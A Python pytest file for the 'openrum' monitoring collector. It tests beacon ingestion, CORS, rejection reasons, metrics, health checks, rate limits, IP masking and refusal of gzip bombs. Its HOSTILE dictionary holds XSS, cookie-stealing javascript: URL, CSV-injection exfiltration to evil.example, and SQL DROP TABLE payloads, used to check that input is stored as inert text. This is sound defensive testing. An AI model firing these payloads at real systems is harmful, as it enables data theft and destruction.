"""The collector in-process: the beacon endpoint, CORS, rejections, /metrics, /openrum.js."""

from __future__ import annotations

import asyncio
import gzip
import threading
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from openrum import __version__
from openrum.server import Server
from openrum.settings import Settings
from openrum.store.base import App, StoreError
from openrum.store.duckdb import DuckDBStore
from tests.beacons import beacon, encode, load_action, now_ms
from tests.conftest import UA_CHROME

pytestmark = pytest.mark.anyio
ORIGIN = "https://shop.example"
HEADERS = {"content-type": "text/plain;charset=UTF-8", "origin": ORIGIN, "user-agent": UA_CHROME}


@pytest.fixture
async def server(store: DuckDBStore, tmp_path: Path) -> AsyncIterator[Server]:
    store.create_app(App(id="shop", name="Shop", origins=[ORIGIN], created=0))
    srv = Server(store, Settings.load({"max_events_per_beacon": "20"}, environ={}), tmp_path)
    srv.writer.start()
    yield srv
    srv.writer.stop()


@pytest.fixture
async def client(server: Server) -> AsyncIterator[httpx.AsyncClient]:
    transport = httpx.ASGITransport(app=server.app, client=("198.51.100.7", 4000))
    async with httpx.AsyncClient(transport=transport, base_url="http://collector") as c:
        yield c


def admin(server: Server) -> dict[str, str]:
    return {"authorization": f"Bearer {server.admin_key}"}


def rows(server: Server, sql: str, params: list[Any] | None = None) -> list[tuple[Any, ...]]:
    assert server.writer.flush()
    return server.store.select(sql, params or [])[1]


async def test_a_beacon_is_accepted_and_stored(server: Server, client: httpx.AsyncClient) -> None:
    r = await client.post("/api/v1/beacon", content=encode(beacon()), headers=HEADERS)
    assert r.status_code == 202
    assert r.headers["access-control-allow-origin"] == ORIGIN
    assert rows(server, "SELECT count(*), any_value(browser), any_value(page) FROM actions") == [
        (1, "Chrome", "/products/***")
    ]


async def test_application_json_is_accepted_too(server: Server, client: httpx.AsyncClient) -> None:
    r = await client.post(
        "/api/v1/beacon",
        content=encode(beacon()),
        headers={**HEADERS, "content-type": "application/json"},
    )
    assert r.status_code == 202


async def test_a_resent_beacon_is_stored_once(server: Server, client: httpx.AsyncClient) -> None:
    body = encode(
        beacon(
            events=[
                load_action(),
                {
                    "kind": "error",
                    "id": "e1",
                    "type": "js",
                    "time": now_ms() - 4000,
                    "message": "boom",
                },
                {
                    "kind": "user",
                    "id": "u1",
                    "type": "rage_click",
                    "time": now_ms() - 4000,
                    "count": 3,
                },
            ],
            seq=1,
        )
    )
    for _ in range(3):
        assert (
            await client.post("/api/v1/beacon", content=body, headers=HEADERS)
        ).status_code == 202
        assert server.writer.flush()
    assert rows(
        server,
        "SELECT (SELECT count(*) FROM actions), (SELECT count(*) FROM errors), "
        "(SELECT count(*) FROM user_events)",
    ) == [(1, 1, 1)]


async def test_a_later_report_of_an_action_replaces_the_earlier(
    server: Server, client: httpx.AsyncClient
) -> None:
    first = beacon(sid="s-upd", page="p-upd", seq=1)
    second = beacon(sid="s-upd", page="p-upd", seq=2)
    second["events"][0]["vitals"]["cls"]["value"] = 0.3
    for body in (second, first):  # the older report arrives last and must not win
        await client.post("/api/v1/beacon", content=encode(body), headers=HEADERS)
        assert server.writer.flush()
    assert rows(server, "SELECT count(*), max(cls) FROM actions") == [(1, 0.3)]


@pytest.mark.parametrize(
    ("body", "headers", "status", "reason"),
    [
        (b"{", HEADERS, 400, "malformed_json"),
        (encode(beacon(app="nope")), HEADERS, 403, "unknown_app"),
        (
            encode(beacon()),
            {**HEADERS, "origin": "https://evil.example"},
            403,
            "origin_not_allowed",
        ),
        (encode(beacon()), {**HEADERS, "content-type": "image/png"}, 415, "unsupported_media_type"),
        (b"x" * 70_000, HEADERS, 413, "body_too_large"),
        (
            encode(beacon(events=[load_action(f"a{i}") for i in range(21)])),
            HEADERS,
            400,
            "too_many_events",
        ),
    ],
)
async def test_rejections_say_why(
    server: Server,
    client: httpx.AsyncClient,
    body: bytes,
    headers: dict[str, str],
    status: int,
    reason: str,
) -> None:
    r = await client.post("/api/v1/beacon", content=body, headers=headers)
    assert r.status_code == status
    assert r.headers["x-openrum-reason"] == reason
    assert server.metrics.rejected[reason] == 1
    metrics = (await client.get("/metrics", headers=admin(server))).text
    assert f'openrum_beacons_rejected_total{{reason="{reason}"}} 1' in metrics


async def test_any_origin_app_and_no_origin_header(
    server: Server, client: httpx.AsyncClient
) -> None:
    server.store.create_app(App(id="open", name="Any origin", origins=["*"], created=0))
    server.collector.set_apps(server.store.list_apps())
    r = await client.post(
        "/api/v1/beacon",
        content=encode(beacon(app="open")),
        headers={**HEADERS, "origin": "https://anything.example"},
    )
    assert r.status_code == 202
    r = await client.post(
        "/api/v1/beacon", content=encode(beacon()), headers={"content-type": "text/plain"}
    )
    assert r.status_code == 202  # servers and native apps send no Origin


async def test_preflight(client: httpx.AsyncClient) -> None:
    r = await client.options(
        "/api/v1/beacon", headers={"origin": ORIGIN, "access-control-request-method": "POST"}
    )
    assert r.status_code == 204
    assert r.headers["access-control-allow-origin"] == ORIGIN
    assert "POST" in r.headers["access-control-allow-methods"]
    r = await client.options("/api/v1/beacon", headers={"origin": "https://evil.example"})
    assert r.status_code == 403


async def test_get_is_not_allowed(client: httpx.AsyncClient) -> None:
    r = await client.get("/api/v1/beacon")
    assert r.status_code == 405
    assert r.headers["x-openrum-reason"] == "method_not_allowed"


async def test_full_spool_answers_503_with_retry_after(store: DuckDBStore, tmp_path: Path) -> None:
    store.create_app(App(id="shop", name="Shop", origins=[], created=0))
    size = len(encode(beacon())) + 300  # room for two records, not three
    srv = Server(store, Settings.load({"spool_max_bytes": str(2 * size)}, environ={}), tmp_path)
    # The writer is not started: the spool fills up.
    transport = httpx.ASGITransport(app=srv.app)
    async with httpx.AsyncClient(transport=transport, base_url="http://c") as c:
        codes = [
            (
                await c.post(
                    "/api/v1/beacon",
                    content=encode(beacon()),
                    headers={"content-type": "text/plain"},
                )
            )
            for _ in range(3)
        ]
    assert [r.status_code for r in codes] == [202, 202, 503]
    assert codes[2].headers["retry-after"] == "1"
    assert codes[2].headers["x-openrum-reason"] == "spool_full"
    srv.writer.start()
    srv.writer.stop()
    assert store.select("SELECT count(*) FROM actions", [])[1] == [(2,)]  # drained on stop


async def test_metrics_count_what_was_accepted_and_stored(
    server: Server, client: httpx.AsyncClient
) -> None:
    await client.post("/api/v1/beacon", content=encode(beacon()), headers=HEADERS)
    assert server.writer.flush()
    text = (await client.get("/metrics", headers=admin(server))).text
    assert "openrum_beacons_accepted_total 1" in text
    assert 'openrum_events_stored_total{table="actions"} 1' in text
    assert "openrum_queue_depth 0" in text
    assert "openrum_flush_seconds_count 1" in text


async def test_healthz(client: httpx.AsyncClient) -> None:
    r = await client.get("/healthz")
    assert r.status_code == 200 and r.json() == {"status": "ok", "version": __version__}


async def test_healthz_fails_while_store_writes_fail_and_recovers(
    store: DuckDBStore, tmp_path: Path
) -> None:
    store.create_app(App(id="shop", name="Shop", origins=[ORIGIN], created=0))
    settings = Settings.load({"health_write_failure_s": "0.2"}, environ={})
    srv = Server(store, settings, tmp_path)
    write, failing = store.write, threading.Event()
    failing.set()

    def flaky(batch: Any) -> None:
        if failing.is_set():
            raise StoreError("disk full")
        write(batch)

    store.write = flaky  # type: ignore[method-assign]
    srv.writer.start()
    transport = httpx.ASGITransport(app=srv.app)
    try:
        async with httpx.AsyncClient(transport=transport, base_url="http://c") as c:
            r = await c.post("/api/v1/beacon", content=encode(beacon()), headers=HEADERS)
            assert r.status_code == 202
            for _ in range(100):
                r = await c.get("/healthz")
                if r.status_code == 503:
                    break
                await asyncio.sleep(0.05)
            assert r.status_code == 503
            assert r.json()["status"] == "failing" and "disk full" in r.json()["reason"]
            failing.clear()
            assert srv.writer.flush(10)  # retried: stored once the store works again
            r = await c.get("/healthz")
            assert r.status_code == 200 and r.json() == {"status": "ok", "version": __version__}
    finally:
        srv.writer.stop()
    assert store.select("SELECT count(*) FROM actions", [])[1] == [(1,)]


async def test_agent_bundle_is_served_compressed_with_an_etag(
    server: Server, client: httpx.AsyncClient
) -> None:
    if server.collector.agent.body is None:
        r = await client.get("/openrum.js")
        assert r.status_code == 404  # not built: says how to build it
        return
    r = await client.get("/openrum.js", headers={"accept-encoding": "gzip"})
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("text/javascript")
    assert r.headers["content-encoding"] == "gzip"
    assert r.content == server.collector.agent.body  # httpx decodes gzip
    assert len(gzip.compress(r.content)) > 0
    r = await client.get("/openrum.js", headers={"if-none-match": r.headers["etag"]})
    assert r.status_code == 304


async def test_diagnostics_module_is_served_beside_the_agent(
    server: Server, client: httpx.AsyncClient
) -> None:
    module = server.collector.diag_agent
    if module.body is None:
        assert (await client.get("/openrum-diag.js")).status_code == 404
        return
    r = await client.get("/openrum-diag.js", headers={"accept-encoding": "br, gzip"})
    assert r.status_code == 200
    assert r.headers["content-encoding"] == "br"
    assert r.headers["etag"] == module.etag.decode() != server.collector.agent.etag.decode()
    assert (await client.post("/openrum-diag.js")).status_code == 405


async def test_gzip_bodies_are_accepted_and_bombs_refused(
    server: Server, client: httpx.AsyncClient
) -> None:
    headers = {**HEADERS, "content-encoding": "gzip"}
    r = await client.post(
        "/api/v1/beacon", content=gzip.compress(encode(beacon())), headers=headers
    )
    assert r.status_code == 202
    bomb = gzip.compress(b" " * 5_000_000)
    assert len(bomb) < 65_536
    r = await client.post("/api/v1/beacon", content=bomb, headers=headers)
    assert (r.status_code, r.headers["x-openrum-reason"]) == (413, "body_too_large")
    assert rows(server, "SELECT count(*) FROM actions") == [(1,)]


async def test_rate_limits_answer_429_with_retry_after(store: DuckDBStore, tmp_path: Path) -> None:
    store.create_app(App(id="shop", name="Shop", origins=[], created=0))
    settings = Settings.load({"rate_limit_ip_per_s": "1", "rate_limit_ip_burst": "3"}, environ={})
    srv = Server(store, settings, tmp_path)
    transport = httpx.ASGITransport(app=srv.app, client=("203.0.113.9", 1))
    async with httpx.AsyncClient(transport=transport, base_url="http://c") as c:
        codes = [
            (
                await c.post(
                    "/api/v1/beacon",
                    content=encode(beacon()),
                    headers={"content-type": "text/plain"},
                )
            )
            for _ in range(4)
        ]
    assert [r.status_code for r in codes] == [202, 202, 202, 429]
    assert codes[3].headers["x-openrum-reason"] == "rate_limited_ip"
    assert int(codes[3].headers["retry-after"]) >= 1


async def test_behind_a_trusted_proxy_the_rate_limit_is_per_client(
    store: DuckDBStore, tmp_path: Path
) -> None:
    """Every beacon arrives from the proxy's address: the limit applies to the forwarded clients,
    and a peer that is not a trusted proxy cannot pick its bucket with a forged header."""
    store.create_app(App(id="shop", name="Shop", origins=[], created=0))
    settings = Settings.load(
        {"rate_limit_ip_per_s": "1", "rate_limit_ip_burst": "2", "trusted_proxies": "10.0.0.1"},
        environ={},
    )
    srv = Server(store, settings, tmp_path)

    async def post(peer: str, forwarded: str) -> int:
        transport = httpx.ASGITransport(app=srv.app, client=(peer, 1))
        async with httpx.AsyncClient(transport=transport, base_url="http://c") as c:
            r = await c.post(
                "/api/v1/beacon",
                content=encode(beacon()),
                headers={"content-type": "text/plain", "x-forwarded-for": forwarded},
            )
            return r.status_code

    proxied = [await post("10.0.0.1", f"198.51.100.{n}") for n in (1, 1, 1, 2, 2)]
    assert proxied == [202, 202, 429, 202, 202]
    forged = [await post("203.0.113.5", f"198.51.100.{n}") for n in (3, 4, 5)]
    assert forged == [202, 202, 429]


async def test_a_slow_body_times_out_with_408(store: DuckDBStore, tmp_path: Path) -> None:
    import anyio

    store.create_app(App(id="shop", name="Shop", origins=[], created=0))
    srv = Server(store, Settings.load({"body_timeout_s": "0.2"}, environ={}), tmp_path)
    sent: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        if not sent:
            sent.append({})
            return {"type": "http.request", "body": b'{"v":', "more_body": True}
        await anyio.sleep(5)  # the rest never comes in time
        return {"type": "http.request", "body": b"1}", "more_body": False}

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    scope = {
        "type": "http",
        "method": "POST",
        "path": "/api/v1/beacon",
        "headers": [(b"content-type", b"text/plain")],
        "client": ("192.0.2.1", 1),
    }
    with anyio.fail_after(3):
        await srv.app(scope, receive, send)
    assert sent[1]["status"] == 408
    assert (b"x-openrum-reason", b"body_timeout") in sent[1]["headers"]


async def test_the_address_is_masked_before_spooling_and_forwarded_for_is_ignored(
    store: DuckDBStore, tmp_path: Path
) -> None:
    from openrum.collect.spool import read_records

    store.create_app(App(id="shop", name="Shop", origins=[], created=0))
    srv = Server(store, Settings.load({}, environ={}), tmp_path)
    transport = httpx.ASGITransport(app=srv.app, client=("203.0.113.77", 1))
    async with httpx.AsyncClient(transport=transport, base_url="http://c") as c:
        r = await c.post(
            "/api/v1/beacon",
            content=encode(beacon()),
            headers={"content-type": "text/plain", "x-forwarded-for": "8.8.8.8"},
        )
    assert r.status_code == 202
    data = b"".join(p.read_bytes() for p in (tmp_path / "spool").glob("*.seg"))
    [(_, raw)] = list(read_records(data))
    assert raw.ip == "203.0.113.0"
    assert b"203.0.113.77" not in data and b"8.8.8.8" not in data


HOSTILE = {
    "xss": "<img src=x onerror=alert(1)>",
    "js_url": "javascript:alert(document.cookie)",
    "csv": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "sql": "'); DROP TABLE actions; --",
}


async def test_hostile_strings_are_stored_as_inert_text(
    server: Server, client: httpx.AsyncClient
) -> None:
    t = now_ms() - 3000
    events = [
        load_action("a1", name=HOSTILE["csv"], url=HOSTILE["js_url"]),
        {
            "kind": "error",
            "id": "e1",
            "type": "js",
            "time": t,
            "message": HOSTILE["xss"],
            "stack": HOSTILE["sql"],
        },
        {"kind": "user", "id": "u1", "type": "user_tag", "time": t, "value": HOSTILE["sql"]},
    ]
    r = await client.post("/api/v1/beacon", content=encode(beacon(events=events)), headers=HEADERS)
    assert r.status_code == 202
    assert rows(server, "SELECT action_name FROM actions") == [(HOSTILE["csv"],)]
    assert rows(server, "SELECT message, stack FROM errors") == [(HOSTILE["xss"], HOSTILE["sql"])]
    assert rows(server, "SELECT value FROM user_events") == [(HOSTILE["sql"],)]
    assert rows(server, "SELECT count(*) FROM actions") == [(1,)]  # nothing was dropped
    # The API returns them as JSON strings, and never as markup.
    r = await client.post(
        "/api/v1/query",
        headers=admin(server),
        json={
            "app": "shop",
            "metrics": ["errors"],
            "dimensions": ["message"],
            "filters": [["message", "is", HOSTILE["xss"]]],
        },
    )
    assert r.headers["content-type"] == "application/json"
    assert r.json()["rows"] == [{"message": HOSTILE["xss"], "errors": 1}]
